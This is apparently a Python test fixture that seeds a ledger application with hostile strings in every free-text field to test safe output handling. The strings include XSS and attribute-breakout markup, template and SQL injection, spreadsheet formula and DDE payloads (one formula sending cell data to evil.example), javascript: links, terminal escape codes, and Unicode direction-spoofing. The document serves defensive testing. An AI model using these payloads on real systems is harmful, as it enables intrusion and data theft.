"""A hostile ledger: the seed with every type of event, with text in every field that is meant to do harm somewhere."""

from collections.abc import Iterator
from itertools import cycle
from pathlib import Path
from typing import Any, Final

from attrs import evolve

from coop_tracker import eventsfile
from coop_tracker.events import Event, introduced, slots
from coop_tracker.tracker import Tracker

SEED = Path(__file__).parent.parent / "seeds" / "aa-bb-water.toml"

MARKUP = '<script>window.harmed=1</script><img src=x onerror="window.harmed=1">'
ATTRIBUTE = '" onmouseover="window.harmed=1" x=\''
CLOSING = "</style></script></title></textarea>--><svg/onload=window.harmed=1>"
TEMPLATE = "{{ 7*7 }}{% for x in y %}${7*7}#{7*7}"
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'
MINUS = "-2+3+cmd|' /C calc'!A0"
AT = "@SUM(1+9)*cmd|' /C calc'!A0"
TAB = "\t=1+1"
WIDE = "＝1+1"
CONTROL = "bell\x07 escape\x1b[31mred\x1b]0;title\x07 delete\x7f c1\x9b31m null-like\x01\x08\x0b\x0c"
RIGHT_TO_LEFT = "abc\u202egpj.exe\u202c \u2067def\u2069 \u061cghi"
INVISIBLE = "zero\u200bwidth \ufeffmark \u2028line \u2029paragraph"
MARKDOWN = "[click](javascript:alert(1)) ![x](http://evil.example/x.png) | a | b |\n# heading\n- list `code` **b**"
ADDRESS = "javascript:window.harmed=1"
SQL = "'; DROP TABLE events; --"
LINES = "first\nsecond\r\nthird"
LONG = "long " + "x" * 9_995
HEBREW = "שלום — مرحبا — 你好 — 🏳️‍🌈"

PAYLOADS = (
    *(MARKUP, ATTRIBUTE, CLOSING, TEMPLATE, FORMULA, MINUS, AT, TAB, WIDE, CONTROL),
    *(RIGHT_TO_LEFT, INVISIBLE, MARKDOWN, ADDRESS, SQL, LINES, LONG, HEBREW),
)
"""Each is met in many fields: they are dealt out in turn."""


def tracker() -> Tracker:
    """A ledger in memory that was told all of it, by somebody with a hostile name."""
    made = Tracker.in_memory(recorded_by=MARKUP)
    fill(made)
    return made


def fill(tracker: Tracker) -> None:
    """Record every event of the seed, with a payload in each field of free text, also where the seed says nothing."""
    payloads = cycle(PAYLOADS)
    titles: dict[str, str] = {}
    read = eventsfile.read(SEED.read_bytes(), SEED.name)
    tracker.take([evolve(each, event=_harmful(each.event, payloads, titles), data=None) for each in read.incoming])


def _harmful(thing: Any, payloads: Iterator[str], titles: dict[str, str]) -> Any:
    changes: dict[str, Any] = {}
    cls: Any = type(thing)
    for slot in slots(cls):
        value = getattr(thing, slot.name)
        if slot.has_parts and value:
            parts = [_harmful(each, payloads, titles) for each in (value if slot.many else (value,))]
            changes[slot.name] = tuple(parts) if slot.many else parts[0]
        elif slot.held is str and slot.name not in _IN_FORM:
            text = next(payloads)
            own = introduced(thing) if slot.name in ("title", "name") and isinstance(thing, Event) else None
            if own:  # what is introduced twice has one title
                text = titles.setdefault(own.tag, text)
            changes[slot.name] = (text,) if slot.many else text
    return evolve(thing, **changes) if changes else thing


_IN_FORM: Final = (
    *("label", "sha256", "language", "field", "component", "purpose"),
    *("duration", "offset", "auto_renews", "notice"),
)
"""Fields of text that have a form, or a meaning that the rules hold them to."""
